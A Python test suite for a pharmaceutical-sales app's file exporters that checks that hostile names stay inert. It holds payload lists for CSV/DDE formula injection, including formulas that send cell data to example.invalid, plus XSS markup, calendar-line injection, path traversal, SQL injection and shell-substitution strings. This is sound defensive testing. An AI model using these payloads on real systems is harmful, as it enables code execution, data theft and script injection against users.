"""Payloads through every writer: nothing that a name holds runs, leads outside or becomes a property of its own.

Formulas, markup, calendar lines, paths and a list of naughty texts go as names into CSV, XLSX, ICS, HTML and SVG; what
comes out is parsed by other programs than wrote it.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from fractions import Fraction
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from xml.etree import ElementTree as ET

import icalendar
import pytest
import python_calamine
from attrs import evolve
from hypothesis import given, settings
from hypothesis import strategies as st

from pharmasales.archive.card import Card
from pharmasales.classification import Scheme
from pharmasales.classification.review.moves import Transitions
from pharmasales.display import Column, Says, Table, because
from pharmasales.errors import BadValue
from pharmasales.exchange import Event, read_sheet, write_csv, write_ics, write_xlsx
from pharmasales.exchange.card_page import card_page
from pharmasales.exchange.charts import Chart, goal_bars, load_bars, trend_lines
from pharmasales.exchange.class_charts import pareto_curve, transition_heatmap
from pharmasales.exchange.grid_chart import grid_scatter
from pharmasales.exchange.page import Tile
from pharmasales.exchange.report import Report, Section, report_html
from pharmasales.rules import Bands, Field, Grid
from pharmasales.testing.lives import doctor_file
from pharmasales.units import CNY
from pharmasales.workspace import outputs as outputs_module

DAY = date(2026, 1, 5)

FORMULAS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\cmd.exe'!''",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "=WEBSERVICE(\"http://example.invalid\")", "=IMAGE(\"http://example.invalid/x.png\")", "=INDIRECT(\"A1\")",
    "='file:///etc/passwd'#$passwd.A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@home", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "=\t1", "{=1+1}", "=\"a\"&\nB1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "%0A=1+1", ";=1+1", ",=1+1", "\"=1+1", "=" * 300,
]  # fmt: skip
BENIGN = ["-5", "+86 138 0000 0000", "=", "-", "+", "@", "3-1", "a=b", "O'Brien", "'quoted'", "-12.50", "50%", "1e3"]
MARKUP = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>", "</title></style></svg><iframe src=//example.invalid>", "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>", "<b>bold</b>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "]]><script>alert(1)</script>", "<!-- x --><script>alert(1)</script><!--",
    "<style>@import 'http://example.invalid'</style>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<meta http-equiv=refresh content=0;url=//example.invalid>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>", "${alert(1)} {{7*7}} <%= 7*7 %> {0.__class__}",
    "<foreignObject><body onload=alert(1)>", "<link rel=stylesheet href=//example.invalid>", "\"\"\"'''```</text>",
]  # fmt: skip
CALENDAR = [
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT", "x\nATTACH:http://example.invalid/evil",
    "x\rURL:http://x.invalid", "x\u2028ATTENDEE:mailto:a@example.invalid", "x\u2029END:VCALENDAR", "END:VEVENT",
    "x\\nBEGIN:VALARM", "x;VALUE=URI:http://example.invalid", "x\r\n BEGIN:VALARM",
    "BEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM", "a,b;c:d\\e", "x\n\nRRULE:FREQ=SECONDLY", "DTSTART:19700101",
    "\\;\\,\\\\n", "x" * 200+"\nURL:http://example.invalid",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\temp\\x", "C:x", "..", ".", "~root", "con",
    "NUL", "com1.ics", "a/b", "a:b:$DATA", "//server/share", "file:///etc/passwd", "-rf", ".hidden", "x" * 300,
    "a\u202ecod.exe", "%2e%2e%2f", "名/../名", "示例" * 100,
]  # fmt: skip
NAUGHTY = [
    "undefined", "null", "None", "NULL", "nil", "true", "FALSE", "NaN", "Infinity", "-Infinity", "0", "-0", "00",
    "007", "1,000", "1.0", "0x1F", "0b10", "1/2", "1e309", "999999999999999999999", "0.30000000000000004",
    "2026-01-05", "1-1", "1:30", "SEPT2", "MARCH1", "10E5", "2E-3", "#REF!", "#N/A", "TRUE", "(5)", "$5", "¥5", "5%",
    "٣", "１２３", "½", "Ⅷ", "〇", "一二三", "𠮷野家", "䶮", "㛃", "𪚥", "龘", "欧阳·示例", "Ünïcödé", "ﬃ", "ß", "İ",
    "ı", "Ǆ", "ά", "Дом", "עברית", "العربية", "\u202eevil\u202c", "\u2066x\u2069", "a\u200bb", "a\u200db", "\u200f",
    "\u00ad", "\ufeff", "a\ufeffb", "e\u0301", "é", "Å", "한국어", "カナ", "ｶﾅ", "ไทย", "हिन्दी", "👩\u200d⚕️", "🇨🇳",
    "🏥", "\U000e0001", "\U0010fffd", "\ue000", "T\u0338h\u0338", "Z͑ͫ̓", " ", "  ", "\t", "\n", "\r", "\r\n", "a\tb",
    "a\nb", "a\rb", "a\r\nb", "\u00a0", "\u3000", "\u2003x\u2003", "\u2028", "a\u2029b", " lead", "trail ",
    "two  spaces", "\"", "\"\"", "'", "''", "\",\"", "a\"b", "\"a\"", "a,b", "a;b", "a|b", "\\", "\\\\", "\\n", "a\\",
    "\\\"", "`", "``", "$(x)", "`x`", "| x", "; x", "&& x", "%s%s%n", "{0}", "{}", "{a!r}", "{{", "}", "%", "%%",
    "%d", "$HOME", "' OR '1'='1", "'; DROP TABLE x;--", "1; --", "\" OR 1=1", "_x0041_", "_x005F_x0041_", "_x000D_",
    "_xD800_", "x_x0000_", "_x005F_x005F_x0041_", "<r>", "<r></r>", "<r>&</r>", "<r><t>evil</t></r>",
    "<r></r></si><si><t>x</t></si><si><r></r>", "<r>_x0041_x0042_</r>", "<r>\r</r>", "<", ">", "&", "&amp;", "&#0;",
    "]]>", "<![CDATA[", "<?xml?>", "<!DOCTYPE x>", "﷽", "(╯°□°)╯", "Ｓｔ．", "-", "--", "- x", "BEGIN:VCALENDAR",
    "sep=,", "ID", "PK\u0003\u0004"[:2], "SYLK", "x" * 5000, "医" * 3000,
]  # fmt: skip
TEXTS = list(dict.fromkeys([*FORMULAS, *BENIGN, *MARKUP, *CALENDAR, *PATHS, *NAUGHTY]))
TRIGGERS = tuple("=+-@＝＋－＠\t\r")
UNSEEN = "\u200b\u200c\u200d\u200e\u200f\u2060\ufeff"


def names(texts):
    """Return a table that bears texts at every place where a text may stand in a file."""
    columns = (
        Column("id", "Id", "编号"), Column("=1+1", "=1+1", "<b>名称</b>"), Column("why", "@why", "＝原因", "why"),
    )  # fmt: skip
    rows = [(f"H{at}", one, because("of {who}", "因 {who}", who=one)) for at, one in enumerate(texts)]
    return Table("names", Says("=Names <b>", "=名单 <b>"), columns, rows)


def live(text):
    """Whether a spreadsheet would run a cell of a CSV."""
    return text.lstrip("".join(c for c in map(chr, range(0x3001)) if c.isspace() and c not in "\t\r") + UNSEEN)[
        :1
    ] in TRIGGERS and bool(text.strip(UNSEEN).strip())


def test_there_are_enough_of_each():
    """Reliability 3.2: as many payloads of each kind as the goal names or more, and over a hundred naughty texts."""
    assert [len(set(kind)) == len(kind) for kind in (FORMULAS, BENIGN, MARKUP, CALENDAR, PATHS, NAUGHTY)] == [True] * 6
    assert (len(FORMULAS) >= 27, len(BENIGN) >= 9, len(MARKUP) >= 17, len(CALENDAR) >= 12) == (True,) * 4
    assert (len(PATHS) >= 14, len(NAUGHTY) >= 100) == (True, True)


def test_no_cell_of_a_csv_is_live_and_all_come_back(tmp_path):
    """Goal "formula payloads": 0 live cells, header included; import(export(x)) == x for every text."""
    write_csv(names(TEXTS), tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for cells in csv.reader(file) for cell in cells]
    assert [cell for cell in cells if live(cell)] == []
    sheet = read_sheet(tmp_path / "a.csv")
    assert sheet.header == ("id", "=1+1", "why")
    assert [cells for _, cells in sheet.rows] == [(f"H{at}", one, f"of {one}") for at, one in enumerate(TEXTS)]


def test_no_cell_of_a_workbook_is_live_and_all_come_back(tmp_path):
    """No formula, link, external part or active content; another reader sees texts alone; all of them come back."""
    write_xlsx([names(TEXTS)], tmp_path / "a.xlsx", lang="zh", created=DAY)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        parts = {info.filename: archive.read(info).decode() for info in archive.infolist()}
    for name, xml in parts.items():
        assert not re.search(r"<(?:\w+:)?(?:f|hyperlinks?|oleObjects?|ddeLink|webPublishItems?|controls?)[ />]", xml), (
            name
        )
        assert "TargetMode" not in xml
    assert not [name for name in parts if re.search("external|vba|activeX|embed|customXml", name, re.IGNORECASE)]
    known = python_calamine.CalamineWorkbook.from_path(tmp_path / "a.xlsx")
    assert [name.strip("-") for name in known.sheet_names] == ["=名单 <b>"]
    values = known.get_sheet_by_index(0).to_python()
    assert {type(cell) for row in values for cell in row} == {str}
    assert [row[0] for row in values] == ["编号", *(f"H{at}" for at in range(len(TEXTS)))]
    assert not [cell for row in values for cell in row if live(cell)]
    sheet = read_sheet(tmp_path / "a.xlsx")
    assert [cells for _, cells in sheet.rows] == [(f"H{at}", one, f"因 {one}") for at, one in enumerate(TEXTS)]


ANY = st.one_of(
    st.sampled_from(TEXTS),
    st.from_regex(r"(<r>)?(_x00[0-9A-F]{2}|_|&|a){0,5}(</r>)?", fullmatch=True),
    st.text(st.sampled_from("=+-@＝＋－＠'\"\t\r\n ,;<>&_x0041\u3000\u200b\ufeff医𠮷"), max_size=12),
    st.text(st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"), max_size=40),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(ANY, ANY), min_size=1, max_size=5))
def test_import_of_export_is_the_same(rows):
    """import(export(x)) == x in both formats for any text that may be kept at all; nothing in between is live."""
    columns = (Column("id", "Id", "编号"), Column("a", "A", "甲"), Column("b", "B", "乙"))
    cells = [(f"H{at}", *pair) for at, pair in enumerate(rows)]
    with TemporaryDirectory() as folder:
        plain, book = Path(folder, "a.csv"), Path(folder, "a.xlsx")
        write_csv(Table("t", Says("T", "表"), columns, cells), plain)
        write_xlsx([Table("t", Says("T", "表"), columns, cells)], book, created=DAY)
        for path in (plain, book):
            assert [found for _, found in read_sheet(path).rows] == cells
        written = csv.reader(io.StringIO(plain.read_text("utf-8-sig"), newline=""))
    assert not [cell for row in written for cell in row if live(cell)]


@settings(deadline=None)
@given(st.characters(categories=("Cs", "Cc")), st.sampled_from(["", "=", "医"]))
def test_what_no_file_keeps_is_refused_alike(sign, before):
    """Control characters and lone surrogates: one typed error, the same in every format, tab and line breaks apart."""
    text = before + sign
    says, table = Says(text, text), names([text])
    with TemporaryDirectory() as folder:
        path = Path(folder, "out")
        codes = []
        for write in (
            lambda: write_csv(table, path),
            lambda: write_xlsx([table], path, created=DAY),
            lambda: write_ics([Event("V1", DAY, text, "")], path, name="x", stamp=DAY),
            lambda: report_html(Report(says, says, (), (), says)),
        ):
            try:
                write()
            except BadValue as error:
                codes.append(error.code)
        assert codes == ([] if sign in "\t\n\r" else ["text.control"] * 4)


def test_numbers_stay_numbers(tmp_path):
    """A negative number is no formula: plain in a CSV, a number in a workbook, and the same when it comes back."""
    cells = [-5, 0, 12, Decimal("-12.50"), Decimal("1234567.89"), Fraction(-1, 4), 10**14]
    columns = (Column("id", "Id", "编号"), Column("n", "N", "数", "number"), Column("t", "T", "文"))
    table = Table("t", Says("T", "表"), columns, [(f"H{at}", cell, str(cell)) for at, cell in enumerate(cells)])
    write_csv(table, tmp_path / "a.csv")
    write_xlsx([table], tmp_path / "a.xlsx", created=DAY)
    plain = [row.split(",")[1] for row in (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()[1:]]
    assert plain == ["-5", "0", "12", "-12.50", "1234567.89", "-0.250000", "100000000000000"]
    values = python_calamine.CalamineWorkbook.from_path(tmp_path / "a.xlsx").get_sheet_by_index(0).to_python()[1:]
    assert [row[1] for row in values] == [-5.0, 0.0, 12.0, -12.5, 1234567.89, -0.25, 1e14]
    assert {type(row[2]) for row in values} == {str}
    for path in (tmp_path / "a.csv", tmp_path / "a.xlsx"):
        rows = [row for _, row in read_sheet(path).rows]
        assert [Fraction(row[1]) for row in rows] == [Fraction(cell) for cell in cells]
        assert [row[2] for row in rows] == [str(cell) for cell in cells]


# --- markup ---

VOID = {"meta", "br", "img", "link", "input", "hr", "base", "embed", "source"}
QUIET = set(
    "html head meta title style body header h1 h2 p div span section figure svg desc g path rect text line table "
    "caption thead tbody tr th td footer ul li article b dl dt dd".split()
)


class Page(HTMLParser):
    """What a browser makes of a page: its tags and attributes, and its texts."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found, self.texts, self.open, self.others = [], [], [], []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        """Keep a tag."""
        self.found.append((tag, attrs))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        """Keep a tag that closes itself."""
        self.found.append((tag, attrs))

    def handle_endtag(self, tag):
        """Close the last tag."""
        assert self.open.pop() == tag

    def handle_data(self, data):
        """Keep a text."""
        self.texts.append(data)

    def handle_comment(self, data):
        """Keep what none of our pages holds."""
        self.others.append(data)

    handle_pi = unknown_decl = handle_comment


def quiet(html):
    """Return the page, after checking that no script, handler, link or address is live in it."""
    page = Page(html)
    assert {tag for tag, _ in page.found} <= QUIET
    assert page.others == []
    for tag, attrs in page.found:
        for name, value in attrs:
            assert not name.startswith("on"), tag
            assert name not in {"href", "src", "srcdoc", "xlink:href", "action", "formaction", "data", "id"}, tag
            scheme = re.match(r"(?i)[\s\x00-\x20]*(javascript|data|vbscript|https?):", value or "")
            assert not scheme or name in {"xmlns", "xmlns:xlink", "aria-label"}, tag
            if name == "style":
                assert re.fullmatch(r"width:\d+(\.\d+)?%", value), tag
            if name == "http-equiv":
                assert value == "Content-Security-Policy"
    styles = "".join(re.findall("(?s)<style>(.*?)</style>", html))
    assert "@import" not in styles
    assert "url(" not in styles
    return page


def pictures(name):
    """Return every kind of chart with a name wherever one may stand."""
    return [
        goal_bars([(name, [(name, 10_000)]), (name, [(name, 5)])]),
        load_bars([(name, 90, 80)]),
        pareto_curve([5, 3, 1], [("80%", name)], rest="C"),
        grid_scatter(
            Grid(
                Bands(Field(f"x{name}", name), ((1, "low"),), top="high"),
                Bands(Field("b"), ((2, "low"),), top="high"),
                {"low": {"low": name, "high": f"{name}2"}, "high": {"low": "3", "high": "4"}},
            ),
            [{f"x{name}": 0, "b": 1}, {f"x{name}": 5, "b": 3}],
        ),
        transition_heatmap(Transitions(Scheme(name, (name, "B")), {(name, "B"): 1, ("B", "B"): 2}, ())),
        trend_lines([(name, [(name, 1), ("b", 2)])]),
        Chart(
            Says(name, name),
            {"width": 9, "height": 9, "data": {"values": [{"v": name}]}, "mark": "point"},
            Says(name, name),
        ),
    ]


@pytest.mark.parametrize("text", [*MARKUP, *CALENDAR[:6], *PATHS[:4], *FORMULAS[:5]])
def test_no_markup_is_live_in_a_report(text):
    """T7: title, tiles, sections, tables, reasons and charts show the text as written and do nothing."""
    says = Says(text, text)
    table = Table(
        "t",
        says,
        (Column("a", text, text), Column("w", "W", "因", "why")),
        [(text, because("of {x}", "因 {x}", x=text))],
    )
    report = Report(
        says, says, (Tile(says, text, says, "warn"),), (Section(says, says, pictures(text)[1], table),), says
    )  # fmt: skip
    for lang in ("en", "zh"):
        page = quiet(report_html(report, lang))
        assert page.texts.count(text) >= 5
        quiet(f"<body>{table.html(lang)}{table.rows[0][1].html(lang)}</body>")
    assert text in Page(table.html()).texts
    assert f"of {text}" in Page(table.rows[0][1].html()).texts


@pytest.mark.parametrize("text", MARKUP)
def test_no_markup_is_live_in_a_card(text):
    """T7: a customer's card to print, with the text as name, id and owner."""
    file = doctor_file()
    card = evolve(Card.of(file.on(date(2026, 3, 1)), file, day=date(2026, 3, 1)), name=text, owner=text, customer=text)
    for lang in ("en", "zh"):
        page = quiet(card_page([card], lang))
        assert text in page.texts
        assert any(text in shown for shown in page.texts if shown != text)


@pytest.mark.parametrize("text", MARKUP)
def test_no_markup_is_live_in_a_picture(text):
    """T7: every picture is XML of shapes and words, without a link, a handler or an address."""
    for chart in pictures(text):
        for lang in ("en", "zh"):
            svg = chart.svg(lang)
            root = ET.fromstring(svg)  # noqa: S314 - our own picture
            assert {one.tag.rpartition("}")[2] for one in root.iter()} <= {
                "svg",
                "desc",
                "g",
                "path",
                "rect",
                "text",
                "line",
            }
            names_of = {key.rpartition("}")[2] for one in root.iter() for key in one.attrib}
            assert not [name for name in names_of if name.startswith("on") or name in ("href", "id", "style")]
            quiet(svg)
    assert text in [one.text for one in ET.fromstring(pictures(text)[-1].svg()).iter()]  # noqa: S314 - our own picture


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(MARKUP), st.sampled_from(NAUGHTY)), min_size=1, max_size=6))
def test_any_table_is_quiet(texts):
    """Each text stands in the page exactly once as it was written, whatever its neighbours are."""
    table = Table(
        "t", Says("T", "表"), tuple(Column(f"c{at}", f"C{at}", "甲") for at in range(len(texts))), [tuple(texts)]
    )
    page = quiet(table.html())
    shown = [text for text in texts if text]
    assert [text for text in page.texts if text not in ("T", "\n") and not re.fullmatch("C[0-9]", text)] == [
        text for text in shown if text != "\n"
    ]


# --- calendars and file names ---


@pytest.mark.parametrize("text", [*CALENDAR, *MARKUP[:5], *FORMULAS[:5], *PATHS[:5]])
def test_no_text_becomes_a_property(tmp_path, text):
    """T7: as many events as went in, each with its own seven properties and nothing beside them."""
    events = [Event("V-1", DAY, text, text), Event("V-2", DAY, "plain", text)]
    write_ics(events, tmp_path / "plan.ics", name=text, stamp=DAY)
    data = (tmp_path / "plan.ics").read_bytes()
    (calendar,) = icalendar.Calendar.from_ical(data, multiple=True)
    assert [part.name for part in calendar.walk()] == ["VCALENDAR", "VEVENT", "VEVENT"]
    assert set(calendar) == {"VERSION", "PRODID", "METHOD", "X-WR-CALNAME"}
    for event, given_event in zip(calendar.walk("VEVENT"), events, strict=True):
        assert set(event) == {"UID", "DTSTAMP", "DTSTART", "SUMMARY", "DESCRIPTION", "SEQUENCE", "STATUS"}
        assert (str(event["UID"]), event.decoded("DTSTART")) == (given_event.uid, DAY)
    unfolded = re.sub("\r\n[ \t]", "", data.decode())
    assert unfolded.count("\r\n") == 2 + 4 + 2 * 9
    assert "\n" not in unfolded.replace("\r\n", "")
    known = {"BEGIN", "END", "VERSION", "PRODID", *calendar, *calendar.walk("VEVENT")[0]}
    assert {re.split("[:;]", line, maxsplit=1)[0] for line in unfolded.splitlines()} <= known


def test_no_uid_becomes_a_property(tmp_path):
    """An id of several lines is refused; any other is one property."""
    for text in [*CALENDAR, *PATHS]:
        path = tmp_path / "plan.ics"
        if len(text.splitlines()) > 1:
            with pytest.raises(BadValue, match=r"id\.lines"):
                write_ics([Event(text, DAY, "t", "d")], path, name="n", stamp=DAY)
            continue
        write_ics([Event(text, DAY, "t", "d")], path, name="n", stamp=DAY)
        (event,) = icalendar.Calendar.from_ical(path.read_bytes()).walk("VEVENT")
        assert set(event) == {"UID", "DTSTAMP", "DTSTART", "SUMMARY", "DESCRIPTION", "SEQUENCE", "STATUS"}


def test_no_calendar_leaves_its_folder(tmp_path):
    """Path payloads as ids of reps: a file each, all of them in the folder, no two alike on any system."""
    folder = tmp_path / "deep" / "out"
    folder.mkdir(parents=True)
    reps = dict.fromkeys([*PATHS, *MARKUP, *(text for text in FORMULAS if len(text.splitlines()) == 1)], "Example Rep")
    calendars = {rep: (Event(f"V{at}", DAY, "Example Hospital", "why"),) for at, rep in enumerate(reps)}
    outputs = outputs_module.Outputs(
        folder=folder, period=None, as_of=DAY, planned=DAY, reps=reps, sold={}, money=CNY,
        tables={"visits": Table("visits", Says("Visits", "拜访"), (), [])}, calendars=calendars,
    )  # fmt: skip
    outputs_module._calendars(outputs, folder)
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.parent for path in files} == {folder}
    assert len({path.name.casefold() for path in files}) == len(reps)
    for path in files:
        assert re.fullmatch(r"[\w-]+\.ics", path.name)
        assert path.stem.upper() not in {"CON", "NUL", "PRN", "AUX", "COM1", "LPT1"}
        assert len(icalendar.Calendar.from_ical(path.read_bytes()).walk("VEVENT")) == 1
